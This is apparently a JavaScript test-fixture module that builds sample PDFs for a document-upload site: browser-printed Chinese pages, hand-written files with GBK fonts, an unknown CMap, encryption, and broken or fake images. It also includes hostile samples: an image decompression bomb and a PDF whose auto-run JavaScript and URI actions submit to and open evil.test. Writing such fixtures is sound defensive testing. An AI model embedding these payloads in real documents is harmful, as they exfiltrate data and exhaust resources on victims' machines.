// PDF files to go with a draft: as Chromium writes them, and by hand: with what real ones have, and with what hostile ones have.

import { LAUNCH } from "./site.mjs";
import { chromium } from "playwright-core";

/** Three pages of Chinese text, as a browser prints them: the first with a red band, the second green, the third blue. */
export async function printed() {
  const browser = await chromium.launch(LAUNCH);
  const page = await browser.newPage();
  const sheet = (colour, n) => `<section style="break-after:page;height:240mm"><h1 style="background:${colour};height:80mm;margin:0">第${n}页</h1><p>本人因患重病，家里没有收入，特此申请临时救助。</p></section>`;
  await page.setContent(["red", "lime", "blue"].map((colour, n) => sheet(colour, n + 1)).join(""));
  const pdf = await page.pdf({ format: "A4", printBackground: true, margin: { top: "0", bottom: "0", left: "0", right: "0" } });
  await browser.close();
  return pdf;
}

/** A file of these objects, of which the first is the catalogue. */
export function written(objects, trailer = "") {
  const parts = ["%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"];
  const places = [];
  for (const [n, object] of objects.entries()) {
    places.push(parts.join("").length);
    parts.push(`${n + 1} 0 obj\n${object}\nendobj\n`);
  }
  const start = parts.join("").length;
  const rows = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`);
  parts.push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows.join("")}trailer\n<</Root 1 0 R/Size ${objects.length + 1}${trailer}>>\nstartxref\n${start}\n%%EOF\n`);
  return Buffer.from(parts.join(""), "latin1");
}

export const stream = (content, entries = "") => `<<${entries}/Length ${content.length}>>\nstream\n${content}\nendstream`;
const A4 = "0 0 595 842";
/** Its lower half is black. */
const HALF = "0 0 595 421 re f";

/** So many pages with the same content. */
export function pages(count, { content = HALF, box = A4, resources = "", more = [], page = "", catalogue = "", trailer = "" } = {}) {
  const kids = Array.from({ length: count }, (_, n) => `${4 + n} 0 R`).join(" ");
  const leaf = `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 3 0 R/Resources<<${resources}>>${page}>>`;
  const tree = `<</Type/Pages/Kids[${kids}]/Count ${count}>>`;
  return written([`<</Type/Catalog/Pages 2 0 R${catalogue}>>`, tree, stream(content), ...Array(count).fill(leaf), ...more], trailer);
}

/** One page with 救助申请 in SimSun, which is not in the file, coded as GBK. */
export const GBK = pages(1, {
  content: "BT /F 72 Tf 100 600 Td <BEC8D6FAC9EAC7EB> Tj ET",
  resources: "/Font<</F 5 0 R>>",
  more: [
    "<</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/GBK-EUC-H/DescendantFonts[6 0 R]>>",
    "<</Type/Font/Subtype/CIDFontType2/BaseFont/SimSun/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/FontDescriptor 7 0 R/DW 1000>>",
    "<</Type/FontDescriptor/FontName/SimSun/Flags 4/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 859/Descent -141/CapHeight 700/StemV 80>>",
  ],
});

/** Coded as a map says that the site doesn't have. */
export const UNMAPPED = Buffer.from(GBK.toString("latin1").replace("GBK-EUC-H", "ETHK-B5-H"), "latin1");

/** Needs a password that nobody has. */
export const LOCKED = pages(1, {
  trailer: `/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${"41".repeat(32)}>/U<${"42".repeat(32)}>>>`,
});

/** A picture with this in it. */
const image = (content, entries) => pages(1, {
  content: "595 0 0 842 0 0 cm /I Do",
  resources: "/XObject<</I 5 0 R>>",
  more: [stream(content, `/Type/XObject/Subtype/Image/ColorSpace/DeviceGray/BitsPerComponent 8${entries}`)],
});
export const BOMB = image("x", "/Width 60000/Height 60000");
export const NO_IMAGE = image("no jpeg at all", "/Width 400/Height 400/Filter/DCTDecode");

/** Wants to run something, to open an address when it is opened and at a touch, and to send a form. */
export const BUSY = pages(1, {
  catalogue: "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('https://evil.test/js'\\))>>/AcroForm<</Fields[5 0 R]/XFA(<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>)>>",
  page: "/Annots[5 0 R 6 0 R]/AA<</O<</S/URI/URI(https://evil.test/open)>>>>",
  more: [
    "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[50 50 200 90]/AA<</F<</S/JavaScript/JS(app.alert\\(2\\))>>>>/DA(/Helv 12 Tf)>>",
    "<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(https://evil.test/touch)>>>>",
  ],
});

export const BROKEN = Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(4000, "no objects at all. ")]);
